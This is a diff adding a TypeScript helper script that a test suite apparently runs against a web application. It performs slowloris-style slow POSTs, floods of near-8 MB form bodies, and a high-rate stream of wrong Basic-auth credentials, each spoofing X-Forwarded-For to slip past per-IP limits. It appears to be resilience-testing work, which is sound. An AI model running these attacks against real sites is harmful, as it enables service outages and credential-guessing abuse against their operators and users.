@@ -1,0 +1,79 @@
+/** Misuses a site until its parent disconnects, in a process of its own: `attack.ts KIND URL TOKEN`. */
+import { Agent, request } from 'node:http'
+import { connect } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+
+const SLOW_CLIENTS = 200
+const FORM_BYTES = 8 * 1024 * 1024 - 1024
+const FORMS_AT_A_TIME = 4
+const TOKENS_A_MINUTE = 10_000
+
+const [, , kind = '', url = '', authorization = ''] = process.argv
+const { hostname, port } = new URL(url)
+const agent = new Agent({ keepAlive: true, maxSockets: 16 })
+
+const ATTACKS = { slow: slowClients, forms: largeForms, tokens: wrongTokens }
+export type AttackName = keyof typeof ATTACKS
+
+process.once('disconnect', () => process.exit())
+ATTACKS[kind as AttackName]()
+process.send?.('ready')
+
+/** Each says that it has a body, and sends a byte a second of it; who is refused comes again. */
+function slowClients(): void {
+  for (let i = 0; i < SLOW_CLIENTS; i++) slowClient(`192.0.2.${1 + (i % 50)}`)
+}
+
+function slowClient(address: string): void {
+  const socket = connect(Number(port), hostname)
+  socket.write(
+    `POST /login HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${address}\r\n` +
+      'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n',
+  )
+  const drops = setInterval(() => socket.write('a'), 1000)
+  socket.on('error', () => undefined)
+  socket.resume().once('close', () => {
+    clearInterval(drops)
+    setTimeout(() => slowClient(address), 1000)
+  })
+}
+
+/** Half of them to the login, where anybody may send one, and half as a user who edits a project. */
+function largeForms(): void {
+  const text = `username=dana&description=${'a+'.repeat(FORM_BYTES / 2 - 50)}`
+  for (let i = 0; i < FORMS_AT_A_TIME; i++)
+    void forever(async () => {
+      const path = i % 2 === 0 ? '/login' : '/api_3/project/edit/dana/hello-2'
+      const headers = {
+        'content-type': 'application/x-www-form-urlencoded',
+        'content-length': String(text.length),
+        'x-forwarded-for': `192.0.2.${100 + i}`,
+        ...(i % 2 === 0 ? {} : { authorization }),
+      }
+      await send(path, headers, text)
+      await sleep(100)
+    })
+}
+
+function wrongTokens(): void {
+  let i = 0
+  setInterval(() => {
+    const wrong = Buffer.from(`login${i++}:wrong`).toString('base64')
+    const headers = { authorization: `Basic ${wrong}`, 'x-forwarded-for': `203.0.113.${i % 20}` }
+    void send('/api_3/auth-check', headers).catch(() => undefined)
+  }, 60_000 / TOKENS_A_MINUTE)
+}
+
+async function send(path: string, headers: Record<string, string>, body = ''): Promise<void> {
+  const { promise, resolve, reject } = Promise.withResolvers<void>()
+  const method = body === '' ? 'GET' : 'POST'
+  const asked = request({ hostname, port, path, method, headers, agent }, (response) =>
+    response.resume().once('close', resolve),
+  )
+  asked.once('error', reject).end(body)
+  await promise
+}
+
+async function forever(step: () => Promise<void>): Promise<void> {
+  for (;;) await step().catch(async () => await sleep(100))
+}
